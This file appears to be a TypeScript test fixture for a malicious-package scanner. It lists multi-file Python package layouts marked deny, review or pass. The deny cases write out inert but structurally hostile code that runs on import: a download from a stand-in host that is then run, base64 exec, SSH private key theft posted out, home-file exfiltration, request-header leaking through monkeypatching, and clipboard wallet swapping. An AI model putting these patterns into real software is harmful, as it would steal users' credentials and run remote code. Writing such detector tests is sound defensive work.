/** What only several files together do, and honest neighbours of them. All inert. */
import type { Shape } from './malicious.js';

function lines(...all: readonly string[]): string {
  return `${all.join('\n')}\n`;
}

const code = Buffer.from('import os\nprint(1)\n').toString('base64');
const fetch = lines(
  'import urllib.request',
  'def get(url):',
  '    return urllib.request.urlopen(url).read()',
);
const put = lines(
  'import pathlib',
  'def put(name, data):',
  '    p = pathlib.Path("/tmp") / name',
  '    p.write_bytes(data)',
  '    return p',
);
const start = lines('import subprocess', 'def launch(p):', '    return subprocess.Popen([str(p)])');

const joined = [
  'from .fetch import get',
  'from .store import put',
  'from .proc import launch',
  'launch(put("tool", get("https://a.invalid/t")))',
];

/** The same three modules, joined by an `__init__.py` that is written otherwise. */
function joinedBy(name: string, init: string, more: Readonly<Record<string, string>> = {}): Shape {
  return {
    name,
    tier: 'deny',
    files: {
      'demo/__init__.py': init,
      'demo/fetch.py': fetch,
      'demo/store.py': put,
      'demo/proc.py': start,
      ...more,
    },
  };
}

export const betweenFiles: readonly Shape[] = [
  joinedBy('joined behind a byte order mark', `\ufeff${lines(...joined)}`),
  joinedBy('joined on one line', lines(`x = 1; ${joined.join('; ')}`)),
  joinedBy('joined behind a colon', lines('if 1: ' + joined.join('; '))),
  joinedBy(
    'joined over lines that go on',
    lines('from .fetch \\', ' import get', 'from  .store\timport (', '  put,', ')', ...joined.slice(2)),
  ),
  joinedBy('joined by a decorator', lines('from .run import boot', '@boot', 'class A:', '    pass'), {
    'demo/run.py': lines(...joined.slice(0, 3), 'def boot(c):', `    ${joined[3]}`, '    return c'),
  }),
  {
    name: 'fetched, kept and started by three modules, joined when the package is imported',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'from .fetch import get',
        'from .store import put',
        'from .proc import launch',
        'from .settings import MIRRORS',
        'for m in MIRRORS:',
        '    launch(put("tool", get(m)))',
      ),
      'demo/fetch.py': fetch,
      'demo/store.py': put,
      'demo/proc.py': start,
      'demo/settings.py': lines('MIRRORS = ["https://a.invalid/t"]'),
    },
  },
  {
    name: 'the same, where a program is asked to do it',
    tier: 'pass',
    files: {
      'demo/__init__.py': '',
      'demo/__main__.py': lines(
        'from .fetch import get',
        'from .store import put',
        'from .proc import launch',
        'launch(put("tool", get("https://a.invalid/t")))',
      ),
      'demo/fetch.py': fetch,
      'demo/store.py': put,
      'demo/proc.py': start,
    },
  },
  {
    name: 'a constant of one module is decoded by another and executed by a third',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('from demo import run', 'run.go()'),
      'demo/data.py': lines(`WORDS = "${code}"`),
      'demo/text.py': lines('import base64', 'def plain(x):', '    return base64.b64decode(x)'),
      'demo/run.py': lines(
        'from demo.data import WORDS',
        'import demo.text as t',
        'def go():',
        '    exec(t.plain(WORDS))',
      ),
    },
  },
  {
    name: 'credentials are gathered by a module that a thread of another imports',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import threading',
        'class Sync(threading.Thread):',
        '    def run(self):',
        '        from .sync import collect, push',
        '        push(collect())',
        'Sync().start()',
      ),
      'demo/sync.py': lines(
        'import os, requests',
        'def collect():',
        '    return open(os.path.expanduser("~/.ssh/id_rsa")).read()',
        'def push(data):',
        '    requests.post("https://a.invalid", data=data)',
      ),
    },
  },
  {
    name: 'everything is imported with a star, from a package below',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('from .core.tools import *', 'boot(VALUE)'),
      'demo/core/__init__.py': '',
      'demo/core/tools.py': lines(
        'import base64',
        `VALUE = "${code}"`,
        'def boot(x):',
        '    exec(base64.b64decode(x))',
      ),
    },
  },
  {
    name: 'modules that import each other in a circle',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('from . import a', 'a.go()'),
      'demo/a.py': lines('from . import b', 'def go():', '    b.run(b.VALUE)'),
      'demo/b.py': lines(
        'from . import a',
        'import base64',
        `VALUE = "${code}"`,
        'def run(x):',
        '    exec(base64.b64decode(x))',
      ),
    },
  },
  {
    name: 'an archive is downloaded where a function is called for it',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines(
        'from .fetch import get',
        'def load(name):',
        '    return get("https://a.invalid/" + name)',
      ),
      'demo/fetch.py': fetch,
    },
  },
  {
    name: 'addresses of wallets are looked for by one module, the clipboard is read by another',
    tier: 'review',
    files: {
      'demo/__init__.py': lines('from . import loop', 'loop.start()'),
      'demo/rules.py': lines(
        'import re',
        'MINE = re.compile(r"\\b(?:bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\\b")',
      ),
      'demo/clip.py': lines('import pyperclip', 'def read():', '    return pyperclip.paste()'),
      'demo/loop.py': lines(
        'from .rules import MINE',
        'from .clip import read',
        'def start():',
        '    return MINE.sub("1InertInertInertInertInertInertInert", read())',
      ),
    },
  },
  {
    name: 'addresses of wallets are checked',
    tier: 'pass',
    files: {
      'demo/__init__.py': lines('from .rules import valid'),
      'demo/rules.py': lines(
        'import re',
        'MINE = re.compile(r"\\b(?:bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\\b")',
        'def valid(x):',
        '    return MINE.match(x) is not None',
      ),
    },
  },
  {
    name: 'files of somebody’s home that a data file names are read and sent',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines(
        'import urllib.request',
        'from .theme import assets, load',
        'for name, body in assets(load()):',
        '    urllib.request.urlopen("https://a.invalid/" + name, data=body)',
      ),
      'demo/theme.py': lines(
        'import json, os, pkgutil',
        'def load():',
        '    return json.loads(pkgutil.get_data(__package__, "theme.json"))',
        'def assets(theme):',
        '    for rel in theme["assets"]:',
        '        with open(os.path.join(os.path.expanduser("~"), rel), "rb") as f:',
        '            yield rel, f.read()',
      ),
    },
  },
  {
    name: 'a function of another library is replaced by one of another module, which sends',
    tier: 'deny',
    files: {
      'demo/__init__.py': lines('from . import compat', 'compat.apply()'),
      'demo/send.py': lines(
        'import urllib.request',
        'def tell(x):',
        '    urllib.request.urlopen("https://a.invalid/t", data=x)',
      ),
      'demo/compat.py': lines(
        'import requests',
        'from .send import tell',
        'old = requests.Session.send',
        'def new(self, request, **k):',
        '    tell(request.headers)',
        '    import urllib.request',
        '    urllib.request.urlopen("https://a.invalid/t", data=request.headers)',
        '    return old(self, request, **k)',
        'def apply():',
        '    requests.Session.send = new',
      ),
    },
  },
  {
    name: 'an address of a wallet for gifts, and a clipboard that is read',
    tier: 'pass',
    files: {
      'demo/__init__.py': '',
      'demo/about.py': lines('GIFTS = "0x000000000000000000000000000000000000dEaD"'),
      'demo/paste.py': lines('import pyperclip', 'def paste():', '    return pyperclip.paste()'),
    },
  },
];
